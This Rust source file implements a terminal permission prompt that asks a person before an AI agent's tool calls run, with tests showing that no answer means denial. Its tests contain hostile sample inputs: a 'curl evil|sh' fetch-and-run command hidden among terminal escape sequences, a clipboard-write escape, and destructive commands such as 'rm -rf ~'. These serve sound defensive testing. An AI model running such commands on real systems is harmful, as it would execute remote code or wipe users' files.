//! `ask`'s front end: each request asked on the controlling terminal
//! (`/dev/tty`), a line at a time, so it works even when stdin and stdout
//! are pipes, as ssh and sudo do. No terminal, a closed terminal, or any
//! error while asking means "deny": a tool never runs unless the person
//! said so.

use super::tool::SessionGrants;
use super::{nobody_to_ask, registered, Asking, Opened, Screen, WITHDRAWN};
use crate::cli::sanitize::Sanitizer;
use crate::cli::term::spinner::Spinner;
use crate::cli::term::style::Style;
use claudio::{CanUseToolRequest, PermissionResult};
use rustix::event::{poll, PollFd, PollFlags};
use std::io::{self, Read, Write};
use std::os::fd::AsFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// A request's end (withdrawn by the CLI, answered elsewhere, the session
/// closed) as a flag a blocking prompt can poll. It is also set when this
/// value is dropped (the question went away).
pub struct CancelFlag {
    pub flag: Arc<Cancel>,
    watcher: tokio::task::JoinHandle<()>,
}

/// Whether a question on the terminal is to close, and why: what it says
/// as it closes.
#[derive(Debug, Default)]
pub struct Cancel {
    set: AtomicBool,
    /// Another holder of the request (the deck) answered it.
    in_the_deck: AtomicBool,
}

impl Cancel {
    /// Whether the question is to close.
    pub fn is_set(&self) -> bool {
        self.set.load(Ordering::SeqCst)
    }

    /// Close it: withdrawn, or gone.
    pub fn set(&self) {
        self.set.store(true, Ordering::SeqCst);
    }

    /// Close it: answered in the deck.
    pub fn set_answered_in_the_deck(&self) {
        self.in_the_deck.store(true, Ordering::SeqCst);
        self.set();
    }

    /// What the closed question says.
    fn note(&self) -> &'static str {
        if self.in_the_deck.load(Ordering::SeqCst) {
            "\n  (answered in the deck)\n"
        } else {
            "\n  (withdrawn)\n"
        }
    }
}

impl CancelFlag {
    /// Watch `r`: the flag is set once it is no longer pending. The
    /// watcher holds a handle only while it waits (it ends with the flag).
    pub fn watch(r: &claudio::Responder) -> CancelFlag {
        let flag = Arc::new(Cancel::default());
        let (f, r) = (flag.clone(), r.clone());
        let watcher = tokio::spawn(async move {
            // answered while asked: by its other holder, the deck
            // (`deck/publish.rs`); `ask` answers after its question closed
            if r.settled().await == claudio::RequestState::Answered {
                f.set_answered_in_the_deck();
            } else {
                f.set();
            }
        });
        CancelFlag { flag, watcher }
    }

    /// The question is to close now (the CLI withdrew its request).
    pub fn set(&self) {
        self.flag.set();
    }
}

impl Drop for CancelFlag {
    fn drop(&mut self) {
        self.watcher.abort();
        self.flag.set();
    }
}

/// What `ask` asks on: `/dev/tty`, or in a test one end of a socket.
pub trait Tty: Read + Write + AsFd {}

impl<T: Read + Write + AsFd> Tty for T {}

/// `ask`'s prompts: each request asked on `/dev/tty` (one at a time: `ask`'s
/// loop asks the next once one is answered).
pub struct TtyPrompts {
    style: Style,
    /// Where relative paths in tool inputs point.
    cwd: std::path::PathBuf,
    warned: AtomicBool,
    tty_path: std::path::PathBuf,
    /// `ask`'s spinner line, taken away before a question is written.
    spinner: std::sync::OnceLock<Spinner>,
    /// Exact calls allowed for this session (no rule was suggested).
    grants: std::sync::Mutex<SessionGrants>,
    /// The call the last answer newly allowed for the session, taken
    /// back when that answer lost to the deck's ([`Self::take_back_grant`]).
    last_grant: std::sync::Mutex<Option<Box<CanUseToolRequest>>>,
}

impl TtyPrompts {
    pub fn new(style: Style, cwd: std::path::PathBuf) -> Arc<Self> {
        let tty_path = tty_path();
        Arc::new(TtyPrompts {
            style,
            cwd,
            warned: AtomicBool::new(false),
            tty_path,
            spinner: std::sync::OnceLock::new(),
            grants: std::sync::Mutex::new(SessionGrants::default()),
            last_grant: std::sync::Mutex::new(None),
        })
    }

    /// The last answer never reached the CLI (the deck's came first): the
    /// call it allowed for the session (`a`, no rule suggested) is not
    /// kept, as a rule the CLI suggested is not kept then (it went with
    /// the answer). Whether there was one.
    pub fn take_back_grant(&self) -> bool {
        let last = self
            .last_grant
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .take();
        if let Some(call) = &last {
            self.grants
                .lock()
                .unwrap_or_else(|e| e.into_inner())
                .forget(call);
        }
        last.is_some()
    }

    /// Take `spinner` off the screen before each question.
    pub fn hide_while_asking(&self, spinner: Spinner) {
        let _ = self.spinner.set(spinner);
    }

    /// The answer to one `can_use_tool` request, asked on the terminal
    /// until `cancelled` is set (then it is withdrawn, said on the
    /// terminal). No terminal: denied, said once on stderr.
    pub async fn decide(
        self: Arc<Self>,
        req: CanUseToolRequest,
        cancelled: Arc<Cancel>,
    ) -> PermissionResult {
        let me = self.clone();
        let req2 = req.clone();
        let answer =
            tokio::task::spawn_blocking(move || me.answer_blocking(&req2, &cancelled)).await;
        match answer {
            Ok(Ok(r)) => r,
            Ok(Err(e)) if e.kind() == io::ErrorKind::Interrupted => {
                PermissionResult::deny(WITHDRAWN)
            }
            Ok(Err(e)) => {
                let what = registered(req.kind()).cannot_ask;
                if !self.warned.swap(true, Ordering::SeqCst) {
                    eprintln!(
                        "claudio: {what} {}: cannot ask on the terminal ({e}); pass --allowed-tools or --permission-mode to allow tools in advance",
                        Sanitizer::clean(&req.tool_name)
                    );
                }
                nobody_to_ask(&req.tool_name)
            }
            Err(_) => PermissionResult::deny("The permission prompt failed."),
        }
    }

    /// Ask about `req` and wait for the answer, giving up when `cancelled`.
    fn answer_blocking(
        &self,
        req: &CanUseToolRequest,
        cancelled: &Cancel,
    ) -> io::Result<PermissionResult> {
        let _paused = self.spinner.get().map(Spinner::pause);
        let mut tty = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .open(&self.tty_path)?;
        // what was typed before the question was shown answers nothing (as
        // sudo does): a `y` meant for something else must not allow this
        let _ = rustix::termios::tcflush(&tty, rustix::termios::QueueSelector::IFlush);
        self.ask_on(&mut tty, req, cancelled)
    }

    /// Ask about `req` on `tty` through the model its kind registers
    /// ([`super::registered`]), a line at a time, until it is answered.
    fn ask_on(
        &self,
        tty: &mut impl Tty,
        req: &CanUseToolRequest,
        cancelled: &Cancel,
    ) -> io::Result<PermissionResult> {
        let grants = || self.grants.lock().unwrap_or_else(|e| e.into_inner());
        let at = Screen {
            style: self.style,
            width: tty_width(),
            height: 24,
            reflows: crate::cli::term::console::reflows(),
        };
        let opened = {
            let grants = grants();
            let asking = Asking {
                cwd: &self.cwd,
                agent: None,
                grants: &grants,
                style: self.style,
                width: at.width,
            };
            (registered(req.kind()).open)(req, &asking)
        };
        let mut kind = match opened {
            Opened::Ask(kind) => kind,
            Opened::Decided { note, result } => {
                *self.last_grant.lock().unwrap_or_else(|e| e.into_inner()) = None;
                tty.write_all(note.as_bytes())?;
                return Ok(result);
            }
        };
        loop {
            tty.write_all(kind.prompt(&at).as_bytes())?;
            tty.flush()?;
            let line = read_line_cancellable(tty, cancelled)?;
            let step = kind.line(&line, &at);
            tty.write_all(step.write.as_bytes())?;
            if let Some(done) = step.done {
                let new = done.grant.filter(|call| grants().remember(call));
                *self.last_grant.lock().unwrap_or_else(|e| e.into_inner()) = new;
                return Ok(done.result);
            }
        }
    }
}

/// Where `ask` asks: `/dev/tty` (a test points it elsewhere).
fn tty_path() -> std::path::PathBuf {
    // A test seam, not a setting: tests point the question at a file
    // that is no terminal (the answer must then be "deny").
    std::env::var_os("CLAUDIO_TEST_TTY")
        .map(Into::into)
        .unwrap_or_else(|| "/dev/tty".into())
}

/// The trust question (see [`crate::cli::common::trust`]) asked on the terminal:
/// whether the person trusts `folder`. An error when there is no terminal
/// to ask on.
pub fn ask_trust(folder: &crate::cli::common::trust::Folder, style: Style) -> io::Result<bool> {
    use crate::cli::common::trust;
    let mut tty = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(tty_path())?;
    if !rustix::termios::isatty(&tty) {
        return Err(io::Error::other("not a terminal"));
    }
    let mut text = trust::question_rows(folder, tty_width());
    text.push_str(&format!("  {} ", style.bold(trust::ask_for(tty_width()))));
    trust::discard_typeahead(&tty);
    tty.write_all(text.as_bytes())?;
    tty.flush()?;
    Ok(trust::yes(&trust::read_answer(&mut tty)?))
}

/// The terminal's width, for `ask`'s questions on it (80 when unknown).
fn tty_width() -> usize {
    crossterm::terminal::size().map_or(80, |(w, _)| w as usize)
}

/// Read one line from the terminal, giving up when `cancelled` is set.
/// End of file (a closed terminal) is an error.
fn read_line_cancellable(tty: &mut impl Tty, cancelled: &Cancel) -> io::Result<String> {
    let mut line = Vec::new();
    loop {
        if cancelled.is_set() {
            let _ = tty.write_all(cancelled.note().as_bytes());
            return Err(io::Error::new(io::ErrorKind::Interrupted, "withdrawn"));
        }
        let mut pfd = [PollFd::new(&*tty, PollFlags::IN)];
        let n = match poll(&mut pfd, Duration::from_millis(100).as_millis() as i32) {
            Ok(n) => n,
            Err(rustix::io::Errno::INTR) => continue,
            Err(e) => return Err(e.into()),
        };
        if n == 0 {
            continue;
        }
        let mut buf = [0u8; 256];
        let got = tty.read(&mut buf)?;
        if got == 0 {
            return Err(io::Error::new(
                io::ErrorKind::UnexpectedEof,
                "the terminal closed",
            ));
        }
        line.extend_from_slice(&buf[..got]);
        // Enter is `\n`, or `\r` on a terminal left in raw mode
        if let Some(i) = line.iter().position(|&b| b == b'\n' || b == b'\r') {
            line.truncate(i);
            return Ok(String::from_utf8_lossy(&line).into_owned());
        }
        if line.len() > 64 * 1024 {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                "answer too long",
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::{question, tool};
    use super::*;
    use claudio::protocol::ask::RequestKind;
    use serde_json::json;
    use std::os::unix::net::UnixStream;

    /// Every registered kind is asked and answered on the terminal
    /// through the same loop: what its sample shows, its typed lines, the
    /// answer its sample says (the one the chat's dialog sends for its
    /// keys); withdrawn while asked, it is said and nothing is answered.
    #[test]
    fn every_kind_is_asked_and_answered_alike() {
        for &kind in RequestKind::ALL {
            let sample = (registered(kind).sample)();
            let (mut tty, person) = Person::answering(&sample.lines);
            let got = prompts().ask_on(&mut tty, &sample.req, &Cancel::default());
            drop(tty);
            let shown = person.shown();
            assert!(shown.contains(sample.shows), "{kind:?}: {shown}");
            assert_eq!(got.unwrap(), sample.result, "{kind:?}: {shown}");

            let (mut tty, person) = Person::answering(&[]);
            let got = prompts().ask_on(&mut tty, &sample.req, &{
                let c = Cancel::default();
                c.set();
                c
            });
            drop(tty);
            assert_eq!(got.unwrap_err().kind(), io::ErrorKind::Interrupted);
            assert!(person.shown().contains("(withdrawn)"), "{kind:?}");
        }
    }

    fn req(v: serde_json::Value) -> CanUseToolRequest {
        serde_json::from_value(v).unwrap()
    }

    fn prompts() -> Arc<TtyPrompts> {
        TtyPrompts::new(Style::plain(), std::env::temp_dir())
    }

    /// `ask`'s terminal: one end of a socket; the person, the other end,
    /// answers each time a question ends (`›`), and what was shown is
    /// given back.
    struct Person {
        shown: std::thread::JoinHandle<String>,
    }

    impl Person {
        fn answering(answers: &[&str]) -> (UnixStream, Person) {
            let (tty, mut person) = UnixStream::pair().unwrap();
            let answers: Vec<String> = answers.iter().map(|a| a.to_string()).collect();
            let shown = std::thread::spawn(move || {
                let mut seen = Vec::new();
                let mut answers = answers.into_iter();
                let mut buf = [0u8; 4096];
                let mut asked = 0;
                loop {
                    let n = match person.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => n,
                    };
                    seen.extend_from_slice(&buf[..n]);
                    let text = String::from_utf8_lossy(&seen);
                    // a question ends with `› ` (Enter ›, or the choices')
                    let prompts = text.matches("› ").count();
                    while asked < prompts {
                        asked += 1;
                        match answers.next() {
                            Some(a) => person.write_all(a.as_bytes()).unwrap(),
                            // no more answers: the terminal closes
                            None => {
                                let _ = person.shutdown(std::net::Shutdown::Write);
                            }
                        }
                    }
                }
                String::from_utf8_lossy(&seen).into_owned()
            });
            (tty, Person { shown })
        }

        fn shown(self) -> String {
            self.shown.join().unwrap()
        }
    }

    fn ask_tool(r: &CanUseToolRequest, answers: &[&str]) -> (io::Result<PermissionResult>, String) {
        let (mut tty, person) = Person::answering(answers);
        let got = prompts().ask_on(&mut tty, r, &Cancel::default());
        drop(tty);
        (got, person.shown())
    }

    fn bash(cmd: &str) -> CanUseToolRequest {
        req(json!({"tool_name":"Bash","input":{"command":cmd}}))
    }

    #[test]
    fn a_tool_runs_only_when_the_person_says_so() {
        use claudio::protocol::DecisionClassification as By;
        let r = bash("ls");
        let (got, shown) = ask_tool(&r, &["y\n"]);
        assert_eq!(
            got.unwrap(),
            PermissionResult::allow().classified(By::UserTemporary),
            "{shown}"
        );
        assert!(shown.contains("Bash  ls"), "{shown}");
        assert!(shown.contains("allowed once"), "{shown}");
        for (line, why) in [
            ("\n", "The user denied this tool call."),
            ("n\n", "The user denied this tool call."),
            (
                "yes but not rm\n",
                "The user denied this tool call: yes but not rm",
            ),
        ] {
            let (got, shown) = ask_tool(&r, &[line]);
            assert_eq!(
                got.unwrap(),
                PermissionResult::deny(why).classified(By::UserReject),
                "{line:?}: {shown}"
            );
        }
        // Enter on a terminal left in raw mode is `\r` (it waited for
        // `\n` to the end of its bound, then denied)
        let (got, shown) = ask_tool(&r, &["y\r"]);
        assert_eq!(
            got.unwrap(),
            PermissionResult::allow().classified(By::UserTemporary),
            "{shown}"
        );
        let (got, _) = ask_tool(&r, &["n\r\n"]);
        assert_eq!(
            got.unwrap(),
            PermissionResult::deny("The user denied this tool call.").classified(By::UserReject)
        );
        // `p` with no rule to keep: said, and asked again
        let (got, shown) = ask_tool(&r, &["p\n", "y\n"]);
        assert_eq!(
            got.unwrap(),
            PermissionResult::allow().classified(By::UserTemporary)
        );
        assert!(shown.contains("suggested no rule"), "{shown}");
    }

    /// A terminal that closes, an answer with no end, a request withdrawn:
    /// an error, which [`TtyPrompts::decide`] turns into a denial.
    #[test]
    fn no_answer_never_allows() {
        let r = bash("rm -rf build");
        let (got, _) = ask_tool(&r, &[]);
        assert_eq!(got.unwrap_err().kind(), io::ErrorKind::UnexpectedEof);
        // an answer that never ends its line: given up past its bound
        let endless = "y".repeat(70 * 1024);
        let (got, _) = ask_tool(&r, &[&endless]);
        assert_eq!(got.unwrap_err().kind(), io::ErrorKind::InvalidData);
        // withdrawn while asked
        let (mut tty, person) = Person::answering(&[]);
        let got = prompts().ask_on(&mut tty, &r, &{
            let c = Cancel::default();
            c.set();
            c
        });
        drop(tty);
        assert_eq!(got.unwrap_err().kind(), io::ErrorKind::Interrupted);
        assert!(person.shown().contains("(withdrawn)"));
        // answered in the deck while asked: closed, saying so
        let (mut tty, person) = Person::answering(&[]);
        let got = prompts().ask_on(&mut tty, &r, &{
            let c = Cancel::default();
            c.set_answered_in_the_deck();
            c
        });
        drop(tty);
        assert_eq!(got.unwrap_err().kind(), io::ErrorKind::Interrupted);
        let shown = person.shown();
        assert!(shown.contains("(answered in the deck)"), "{shown}");
        assert!(!shown.contains("(withdrawn)"), "{shown}");
        let none = nobody_to_ask("Bash");
        assert!(matches!(none, PermissionResult::Deny { .. }), "{none:?}");
        // claudio decided by itself: nobody was asked
        assert_eq!(
            none.decision_classification(),
            Some(&claudio::protocol::DecisionClassification::Config)
        );
    }

    /// "This session" with no rule suggested: the same call is allowed
    /// without asking, and said; another call is asked.
    #[test]
    fn the_same_call_again_is_allowed_and_said() {
        let p = prompts();
        let r = bash("cargo test");
        let (mut tty, person) = Person::answering(&["a\n"]);
        let first = p.ask_on(&mut tty, &r, &Cancel::default());
        drop(tty);
        // "this session" is the person's: user_permanent; the later calls
        // the grant allows are claudio's own rule, nobody asked: config
        let by = claudio::protocol::DecisionClassification::UserPermanent;
        assert_eq!(first.unwrap(), PermissionResult::allow().classified(by));
        person.shown();
        let (mut tty, person) = Person::answering(&[]);
        let again = p.ask_on(&mut tty, &r, &Cancel::default());
        drop(tty);
        let by = claudio::protocol::DecisionClassification::Config;
        assert_eq!(again.unwrap(), PermissionResult::allow().classified(by));
        assert!(person.shown().contains(tool::SAME_CALL));
        let (mut tty, _person) = Person::answering(&[]);
        let other = p.ask_on(&mut tty, &bash("cargo test; rm -rf ~"), &Cancel::default());
        assert!(other.is_err(), "another call is asked");
    }

    /// `a` whose answer lost to the deck's (`ask` finds the request
    /// answered): the call is not kept, and is asked again; a call
    /// allowed before by an answer that reached the CLI stays allowed
    /// when a later answer loses.
    #[test]
    fn an_allow_for_the_session_taken_back_is_asked_again() {
        let p = prompts();
        let r = bash("cargo test");
        let (mut tty, _person) = Person::answering(&["a\n"]);
        assert!(p.ask_on(&mut tty, &r, &Cancel::default()).is_ok());
        drop(tty);
        assert!(p.take_back_grant(), "the call was kept");
        assert!(!p.take_back_grant(), "once");
        let (mut tty, _person) = Person::answering(&[]);
        let again = p.ask_on(&mut tty, &r, &Cancel::default());
        assert!(again.is_err(), "asked again: {again:?}");
        drop(tty);
        // kept (its answer reached the CLI), then the same call allowed
        // without asking, and that answer lost: the grant stays
        let (mut tty, _person) = Person::answering(&["a\n"]);
        assert!(p.ask_on(&mut tty, &r, &Cancel::default()).is_ok());
        drop(tty);
        let (mut tty, _person) = Person::answering(&[]);
        assert!(p.ask_on(&mut tty, &r, &Cancel::default()).is_ok());
        drop(tty);
        assert!(!p.take_back_grant(), "nothing new was kept");
        let (mut tty, _person) = Person::answering(&[]);
        assert!(
            p.ask_on(&mut tty, &r, &Cancel::default()).is_ok(),
            "still kept"
        );
    }

    /// What `ask` writes on the terminal for hostile input: nothing a
    /// terminal acts on, and nothing that would run hidden.
    #[test]
    fn what_is_asked_is_inert() {
        let r = req(json!({"tool_name":"Bash",
            "input":{"command":"echo safe; \u{1b}]0;$(curl evil|sh)\u{7}\u{202e}"},
            "description":"\u{1b}[2J\u{9b}H\r\u{8}why"}));
        let named = req(json!({"tool_name":"Bash\u{1b}]0;t\u{7}","input":{"x":"\u{1b}[2J"}}));
        for r in [r, named] {
            let (_, shown) = ask_tool(&r, &["n\n"]);
            assert!(
                !shown.contains(['\u{1b}', '\u{7}', '\u{9b}', '\r', '\u{8}', '\u{202e}']),
                "{shown:?}"
            );
            if r.tool_name == "Bash" {
                assert!(shown.contains("$(curl evil|sh)\\a"), "{shown}");
            }
        }
        let q = req(json!({"tool_name":"AskUserQuestion","input":{"questions":[
            {"question":"Pick\u{1b}]52;c;QUFB\u{7}","header":"H\u{1b}[31m","multiSelect":false,
             "options":[{"label":"A\u{1b}[2J","description":"d\u{9d}x\u{9c}"},{"label":"B","description":""}]}]}}));
        let (mut tty, person) = Person::answering(&["1\n"]);
        let got = prompts().ask_on(&mut tty, &q, &Cancel::default());
        drop(tty);
        let shown = person.shown();
        assert!(
            matches!(got.unwrap(), PermissionResult::Allow { .. }),
            "{shown}"
        );
        assert!(
            !shown.contains(['\u{1b}', '\u{7}', '\u{9d}', '\u{9c}']),
            "{shown:?}"
        );
    }

    /// The questions one after another, each answered; Enter alone
    /// declines them all.
    #[test]
    fn questions_are_answered_in_turn_or_declined() {
        let q = req(json!({"tool_name":"AskUserQuestion","input":{"questions":[
            {"question":"Which db?","header":"DB","multiSelect":false,
             "options":[{"label":"SQLite","description":""},{"label":"Postgres","description":""}]},
            {"question":"Which tests?","header":"Tests","multiSelect":true,
             "options":[{"label":"unit","description":""},{"label":"e2e","description":""}]}]}}));
        let (mut tty, person) = Person::answering(&["2\n", "1,2\n"]);
        let got = prompts().ask_on(&mut tty, &q, &Cancel::default());
        drop(tty);
        let shown = person.shown();
        let PermissionResult::Allow { updated_input, .. } = got.unwrap() else {
            panic!("{shown}")
        };
        let answers = &updated_input.unwrap()["answers"];
        assert_eq!(answers["Which db?"], "Postgres", "{answers}");
        assert_eq!(answers["Which tests?"], "unit, e2e", "{answers}");
        let (mut tty, _person) = Person::answering(&["\n"]);
        let got = prompts().ask_on(&mut tty, &q, &Cancel::default());
        assert_eq!(got.unwrap(), PermissionResult::deny(question::DECLINED));
    }

    /// Questions that cannot be read are denied at once, and the terminal
    /// says so (as the chat does), asking nothing.
    #[test]
    fn unreadable_questions_are_denied_and_said() {
        let q = req(json!({"tool_name":"AskUserQuestion","input":{"questions":"no"}}));
        let (mut tty, person) = Person::answering(&[]);
        let got = prompts().ask_on(&mut tty, &q, &Cancel::default());
        drop(tty);
        assert_eq!(got.unwrap(), PermissionResult::deny(question::UNREADABLE));
        let shown = person.shown();
        assert!(shown.contains("questions claudio cannot read"), "{shown}");
        assert!(!shown.contains('›'), "nothing asked: {shown}");
    }

    /// A plan: `1` approves with edits accepted, Enter alone rejects it
    /// and stops the turn, anything else is what to change.
    #[test]
    fn a_plan_is_approved_only_by_its_number() {
        let r = req(json!({"tool_name":"ExitPlanMode","input":{"plan":"# Plan\n1. do it"}}));
        let run = |line: &str| {
            let (mut tty, person) = Person::answering(&[line]);
            let got = prompts().ask_on(&mut tty, &r, &Cancel::default());
            drop(tty);
            (got.unwrap(), person.shown())
        };
        let (got, shown) = run("1\n");
        assert!(shown.contains("do it"), "{shown}");
        assert!(matches!(got, PermissionResult::Allow { .. }), "{got:?}");
        let (got, _) = run("\n");
        assert!(
            matches!(
                got,
                PermissionResult::Deny {
                    interrupt: true,
                    ..
                }
            ),
            "{got:?}"
        );
        let (got, _) = run("1 but add tests\n");
        assert!(
            matches!(&got, PermissionResult::Deny { message, interrupt: false, .. } if message.ends_with("1 but add tests")),
            "{got:?}"
        );
    }
}
